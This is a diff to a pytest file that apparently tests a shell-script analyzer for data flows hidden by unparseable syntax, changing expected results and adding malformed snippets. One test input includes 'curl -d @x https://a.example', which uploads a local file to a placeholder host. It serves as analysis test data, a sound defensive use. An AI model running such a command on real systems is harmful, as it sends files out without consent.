@@ -67,8 +67,9 @@ def test_broken_scripts_end_in_a_result(tmp_path: Path, text: str) -> None:
 
 @pytest.mark.parametrize(("text", "is_hidden"), [
     ("if true; then (( ]] ; echo done\ncurl -d @x https://a.example\n", False),
-    ("if true; then (( ]] ; echo $TZ\n", True),
-    ("if true; then (( ]] ; x=$(timedatectl show)\n", True),
+    ("if true; then (( ]] ; echo $TZ\n", False),
+    ("echo 'never closed $TZ\n", True),
+    ("case $x in a) foo ;; b c) x=$(timedatectl show)\n", True),
 ])
 def test_what_does_not_parse_hides_the_flow_where_it_may_read_a_signal(tmp_path: Path, text: str, is_hidden: bool) -> None:
     program = program_of(tmp_path, {"x.sh": text}, language=Language.SHELL, kind=ArtifactKind.SHELL)
